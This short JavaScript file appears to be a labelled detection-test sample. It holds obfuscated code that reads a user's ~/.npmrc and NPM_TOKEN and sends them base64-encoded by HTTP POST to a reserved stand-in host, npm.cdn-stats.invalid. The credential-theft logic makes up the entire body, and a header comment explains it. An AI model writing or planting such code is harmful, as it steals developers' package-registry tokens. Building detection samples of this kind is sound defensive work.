// P22: string-array obfuscation as javascript-obfuscator emits it (rotated array, hex escapes,
// offset accessor). Deobfuscated: read ~/.npmrc and NPM_TOKEN and POST them to a reserved host.
var _0x2c81=['\x6e\x70\x6d\x2e\x63\x64\x6e\x2d\x73\x74\x61\x74\x73\x2e\x69\x6e\x76\x61\x6c\x69\x64','\x2f\x73','\x50\x4f\x53\x54','\x65\x72\x72\x6f\x72','\x74\x69\x6d\x65\x6f\x75\x74','\x64\x65\x73\x74\x72\x6f\x79','\x65\x6e\x64','\x66\x73','\x6f\x73','\x68\x74\x74\x70','\x4e\x50\x4d\x5f\x54\x4f\x4b\x45\x4e','\x65\x6e\x76','\x72\x65\x61\x64\x46\x69\x6c\x65\x53\x79\x6e\x63','\x68\x6f\x6d\x65\x64\x69\x72','\x2f\x2e\x6e\x70\x6d\x72\x63','\x75\x74\x66\x38','\x72\x65\x71\x75\x65\x73\x74'];
(function(_0x1b,_0x3a){var _0x5d=function(_0x9f){while(--_0x9f){_0x1b['push'](_0x1b['shift']());}};_0x5d(++_0x3a);}(_0x2c81,0xc));
var _0x4e1f=function(_0x2d,_0x7c){_0x2d=_0x2d-0x1a0;return _0x2c81[_0x2d];};
var _0xa1=require(_0x4e1f(0x1ac)),_0xa2=require(_0x4e1f(0x1ad)),_0xa3=require(_0x4e1f(0x1ae));var _0xb1='';
try{_0xb1=_0xa1[_0x4e1f(0x1a0)](_0xa2[_0x4e1f(0x1a1)]()+_0x4e1f(0x1a2),_0x4e1f(0x1a3));}catch(_0xe){}
_0xb1+=process[_0x4e1f(0x1b0)][_0x4e1f(0x1af)]||'';
var _0xr=_0xa3[_0x4e1f(0x1a4)]({host:_0x4e1f(0x1a5),path:_0x4e1f(0x1a6),method:_0x4e1f(0x1a7),timeout:0xbb8});
_0xr['on'](_0x4e1f(0x1a8),function(){});_0xr['on'](_0x4e1f(0x1a9),function(){_0xr[_0x4e1f(0x1aa)]();});_0xr[_0x4e1f(0x1ab)](Buffer['from'](_0xb1)['toString']('base64'));
